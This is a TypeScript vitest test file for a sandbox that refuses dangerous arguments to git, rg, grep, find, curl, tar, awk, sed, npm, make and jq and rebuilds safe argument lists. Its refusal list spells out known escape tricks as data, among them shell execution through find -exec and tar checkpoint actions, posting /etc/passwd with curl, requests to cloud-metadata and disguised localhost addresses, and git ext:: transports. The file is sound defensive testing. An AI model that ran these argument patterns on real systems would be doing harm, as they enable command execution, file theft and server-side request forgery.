import { describe, expect, test } from "vitest";
import { PROFILE_NAMES, type ProfileName } from "../policy/document.js";
import { isProblem, profiles } from "./index.js";

function arrange(name: ProfileName, ...args: string[]): string[] | string {
  const arranged = profiles[name].arrange(args);
  return isProblem(arranged) ? arranged.problem : [...arranged.argv];
}

test("there is a profile for every name the policy knows", () => {
  expect(Object.keys(profiles).sort()).toEqual([...PROFILE_NAMES].sort());
});

describe("escape hatches are refused", () => {
  const hatches: [ProfileName, string[]][] = [
    ["git", ["-c", "core.fsmonitor=x", "status"]],
    ["git", ["--git-dir=/x", "log"]],
    ["git", ["-C", "/x", "log"]],
    ["git", ["--exec-path=/x", "log"]],
    ["git", ["log", "--output=/x"]],
    ["git", ["log", "--outp=/x"]],
    ["git", ["log", "--ext-diff"]],
    ["git", ["diff", "--textconv"]],
    ["git", ["diff", "--no-index", "a", "/etc/passwd"]],
    ["git", ["diff", "/etc/passwd", "/etc/group"]],
    ["git", ["log", "--show-signature"]],
    ["git", ["grep", "-Oless", "x"]],
    ["git", ["grep", "--open-files-in-pager=x", "y"]],
    ["git", ["grep", "--no-index", "x", "/"]],
    ["git", ["blame", "--contents", "/etc/passwd", "a"]],
    ["git", ["ls-remote", "ext::sh -c x"]],
    ["git", ["show", "ext::sh"]],
    ["git", ["archive", "--output=x", "HEAD"]],
    ["git", ["init", "/x"]],
    ["git", ["clone", "x"]],
    ["git", ["branch", "-D", "main"]],
    ["git", ["tag", "-d", "v1"]],
    ["git", ["config", "--list"]],
    ["git", ["status", "--recurse-submodules"]],
    ["git", ["-p", "log"]],
    ["git", []],
    ["git", ["constructor"]],
    ["rg", ["--pre=x", "a"]],
    ["rg", ["--pre", "x", "a"]],
    ["rg", ["--hostname-bin=x", "a"]],
    ["rg", ["--search-zip", "a"]],
    ["rg", ["-z", "a"]],
    ["rg", ["-nz", "a"]],
    ["rg", ["-L", "a"]],
    ["rg", ["--follow", "a"]],
    ["rg", ["-f", "/etc/passwd"]],
    ["rg", ["--file=/etc/passwd"]],
    ["rg", ["--ignore-file=/etc/passwd", "a"]],
    ["grep", ["-f", "/etc/passwd", "a"]],
    ["grep", ["--file=/etc/passwd", "a"]],
    ["grep", ["-R", "a"]],
    ["grep", ["--dereference-recursive", "a"]],
    ["grep", ["--exclude-from=/etc/passwd", "a"]],
    ["grep", ["-D", "read", "a"]],
    ["find", [".", "-exec", "sh", ";"]],
    ["find", [".", "-execdir", "sh", ";"]],
    ["find", [".", "-ok", "sh", ";"]],
    ["find", [".", "-delete"]],
    ["find", [".", "-fprint", "x"]],
    ["find", [".", "-fprintf", "x", "y"]],
    ["find", [".", "-fls", "x"]],
    ["find", ["-L", "."]],
    ["find", [".", "-follow"]],
    ["find", ["-files0-from", "x"]],
    ["find", [".", "-newer", "/etc/passwd"]],
    ["ls", ["--hyperlink"]],
    ["ls", ["-L"]],
    ["ls", ["--dereference"]],
    ["cat", ["--help-me"]],
    ["cat", ["-"]],
    ["jq", ["-f", "x", "."]],
    ["jq", ["--from-file", "x"]],
    ["jq", ["-L", "/x", "."]],
    ["jq", ["-nrL", "/x", "."]],
    ["jq", ["--slurpfile", "a", "/etc/passwd", "."]],
    ["jq", ["--rawfile", "a", "/etc/passwd", "."]],
    ["jq", ['import "x" as $x; .', "a"]],
    ["jq", ['include "x"; .', "a"]],
    ["curl", ["file:///etc/passwd"]],
    ["curl", ["FILE:///etc/passwd"]],
    ["curl", ["-o", "x", "https://example.com"]],
    ["curl", ["-O", "https://example.com"]],
    ["curl", ["-sO", "https://example.com"]],
    ["curl", ["-K", "x", "https://example.com"]],
    ["curl", ["-T", "x", "https://example.com"]],
    ["curl", ["-F", "a=@/etc/passwd", "https://example.com"]],
    ["curl", ["-d", "@/etc/passwd", "https://example.com"]],
    ["curl", ["--data=@/etc/passwd", "https://example.com"]],
    ["curl", ["--data-binary", "@x", "https://example.com"]],
    ["curl", ["--json", "@x", "https://example.com"]],
    ["curl", ["--data-urlencode", "a@x", "https://example.com"]],
    ["curl", ["-H", "@x", "https://example.com"]],
    ["curl", ["-b", "x", "https://example.com"]],
    ["curl", ["-w", "@x", "https://example.com"]],
    ["curl", ["-x", "http://p", "https://example.com"]],
    ["curl", ["--unix-socket", "/run/docker.sock", "http://example.com"]],
    ["curl", ["--resolve", "example.com:80:127.0.0.1", "http://example.com"]],
    ["curl", ["--connect-to", "::127.0.0.1:80", "http://example.com"]],
    ["curl", ["-k", "https://example.com"]],
    ["curl", ["http://127.0.0.1/"]],
    ["curl", ["http://localhost:8080/"]],
    ["curl", ["http://169.254.169.254/latest"]],
    ["curl", ["http://[::1]/"]],
    ["curl", ["http://[::ffff:127.0.0.1]/"]],
    ["curl", ["http://0x7f000001/"]],
    ["curl", ["http://2130706433/"]],
    ["curl", ["http://017700000001/"]],
    ["curl", ["http://127.1/"]],
    ["curl", ["http://user:pw@example.com/"]],
    ["curl", ["http:example.com"]],
    ["curl", ["http:\\\\example.com"]],
    ["curl", ["https://a.example", "https://b.example"]],
    ["curl", ["gopher://example.com"]],
    ["curl", []],
    ["sed", ["-i", "s/a/b/", "x"]],
    ["sed", ["-ni", "p", "x"]],
    ["sed", ["--in-place", "s/a/b/", "x"]],
    ["sed", ["-f", "x", "y"]],
    ["sed", ["--follow-symlinks", "p", "x"]],
    ["sed", ["--debug", "p"]],
    ["awk", ["-f", "x"]],
    ["awk", ["-i", "inplace", "1"]],
    ["awk", ["-l", "x", "1"]],
    ["awk", ["--dump-variables=/x", "1"]],
    ["awk", ["-o/x", "1"]],
    ["awk", ["-v", "not an assignment", "1"]],
    ["awk", ['@load "filefuncs"; 1']],
    ["awk", ['@include "x"; 1']],
    ["npm", ["exec", "x"]],
    ["npm", ["install", "x"]],
    ["npm", ["run", "a", "--", "x"]],
    ["npm", ["run", "--script-shell=/x", "a"]],
    ["npm", ["config", "ls"]],
    ["npm", ["run"]],
    ["make", ["-f", "/x"]],
    ["make", ["-C", "/x"]],
    ["make", ["--eval=x"]],
    ["make", ["SHELL=/x", "all"]],
    ["make", ["A=$(shell x)"]],
    ["make", ["-I/x"]],
    ["make", ["../x"]],
    ["tar", ["-xf", "a.tar", "--checkpoint=1", "--checkpoint-action=exec=sh"]],
    ["tar", ["-xf", "a.tar", "--to-command=sh"]],
    ["tar", ["-xf", "a.tar", "-I", "sh"]],
    ["tar", ["-xf", "a.tar", "--use-compress-program=sh"]],
    ["tar", ["-xPf", "a.tar"]],
    ["tar", ["-cf", "a.tar", "-T", "/etc/list"]],
    ["tar", ["-cf", "a.tar", "-h", "x"]],
    ["tar", ["-xf", "a.tar", "-F", "sh"]],
    ["tar", ["-xf", "a.tar", "--rsh-command=sh"]],
    ["tar", ["-xf", "-"]],
    ["tar", ["xf", "a.tar"]],
    ["tar", ["-xtf", "a.tar"]],
  ];
  test.each(hatches)("%s %j", (name, args) =>
    expect(typeof arrange(name, ...args), JSON.stringify(arrange(name, ...args))).toBe("string"),
  );
});

describe("ordinary use is put together unambiguously", () => {
  test.each<[ProfileName, string[], string]>([
    ["ls", ["-la", "src"], "-l -a -- src"],
    ["cat", ["-n", "--", "-x"], "-n -- ./-x"],
    ["grep", ["-rn", "--include=*.ts", "a;b$c", "src"], "-r -n --include=*.ts -e a;b$c -- src"],
    ["grep", ["-e", "-x", "f"], "-e -x -- f"],
    ["rg", ["-n", "-g", "*.ts", "needle", "src"], "-n -g *.ts -e needle -- src"],
    ["rg", ["-nC3", "x"], "-n -C 3 -e x --"],
    ["rg", ["--files", "src"], "--files -- src"],
    ["find", [".", "-name", "*.ts", "-maxdepth", "2"], "-P . -maxdepth 2 -name *.ts"],
    ["find", ["-type", "f"], "-P . -type f"],
    ["jq", ["-r", "--arg", "n", "v", ".a[$n]", "f.json"], "-r --arg n v .a[$n] f.json"],
    ["sed", ["-n", "1,5p", "f"], "-n -e 1,5p -- f"],
    ["awk", ["-F,", "-v", "n=1", "{print $n}", "f"], "-F , -v n=1 -- {print $n} f"],
    ["git", ["status", "--porcelain"], "status --ignore-submodules=dirty --porcelain --"],
    [
      "git",
      ["log", "--oneline", "-5", "main..dev", "--", "src"],
      "log --no-ext-diff --no-textconv --oneline -n 5 main..dev -- src",
    ],
    ["git", ["show", "HEAD~1:a.txt"], "HEAD~1:a.txt"],
    ["git", ["branch", "-a"], "branch --list -a"],
    ["git", ["grep", "-n", "std::vector"], "-n -e std::vector"],
    ["curl", ["-sS", "-d", "a=1", "https://example.com/x"], "-s -S -d a=1 --url https://example.com/x"],
    ["make", ["-j4", "build", "V=1"], "-j 4 -- build V=1"],
    ["npm", ["run", "build"], "run build"],
    ["npm", ["ci"], "ci --ignore-scripts"],
    ["tar", ["-tzf", "a.tgz"], "-t -z -f a.tgz --"],
  ])("%s %j", (name, args, tail) => expect([arrange(name, ...args)].flat().join(" ")).toContain(tail));

  test("what makes each tool safe comes first", () => {
    expect(arrange("rg", "x").slice(0, 2)).toEqual(["--no-config", "--no-follow"]);
    expect(arrange("curl", "https://example.com")[0]).toBe("-q");
    expect(arrange("sed", "p")[0]).toBe("--sandbox");
    expect(arrange("awk", "1")[0]).toBe("--sandbox");
    expect(arrange("tar", "-tf", "a:b.tar")[0]).toBe("--force-local");
    expect(arrange("git", "status").slice(0, 2)).toEqual(["--no-pager", "--no-optional-locks"]);
  });
});

test("file names are told apart, so that each can be checked", () => {
  const paths = (name: ProfileName, ...args: string[]): readonly string[] => {
    const arranged = profiles[name].arrange(args);
    return isProblem(arranged) ? [arranged.problem] : arranged.paths;
  };
  expect(paths("cat", "a", "../b")).toEqual(["a", "../b"]);
  expect(paths("grep", "/etc/passwd", "f")).toEqual(["f"]);
  expect(paths("tar", "-cf", "out.tar", "-C", "src", "a")).toEqual(["out.tar", "src", "a"]);
  expect(paths("git", "log", "--", "a", "/etc/x")).toEqual(["a", "/etc/x"]);
  expect(paths("find", "src", "-name", "x")).toEqual(["src"]);
  expect(paths("awk", "1", "f")).toEqual(["f"]);
});

test("an awk without a safe mode is refused by name", () => {
  expect(profiles.awk.checkExecutable("/usr/bin/mawk")).toContain("gawk");
  expect(profiles.awk.checkExecutable("/usr/bin/gawk")).toBeUndefined();
});
